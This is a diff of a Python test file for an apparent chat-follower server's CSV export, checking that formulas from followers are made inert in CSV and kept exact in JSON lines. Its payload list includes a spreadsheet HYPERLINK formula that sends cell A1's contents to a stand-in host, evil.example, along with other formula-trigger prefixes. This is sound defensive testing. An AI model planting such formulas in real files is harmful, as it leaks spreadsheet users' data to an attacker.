@@ -269,13 +269,20 @@ def test_slow_clients_neither_delay_others_nor_stay_for_ever(server):
 
 # --- CSV export ---------------------------------------------------------------------------------
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+# (A carriage return cannot lead a follower's text: XML reads a raw one as a newline, and a &#13; between
+# CDATA sections is layout whitespace to the parser. The CSV rule for it is checked on the writer below.)
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1"]
+
+
+def test_a_cell_starting_with_a_carriage_return_is_inert_too():
+    from admin.export import inert
+
+    assert inert("\r=1+1") == "'\r=1+1" and inert("1+1") == "1+1"
 
 
 def test_formulas_from_followers_are_inert_in_csv_and_exact_in_json_lines(server, tmp_path):
     for text in FORMULAS:
-        # &#13; is how a carriage return survives XML (a raw one is read as a newline).
-        body = simulator.text(text).replace(b"\r", b"]]>&#13;<![CDATA[")
+        body = simulator.text(text)
         assert simulator.post_message(server.url, TOKEN, body).status == 200
     env = dict(os.environ, WECHAT_CONFIG=str(server.config))
 
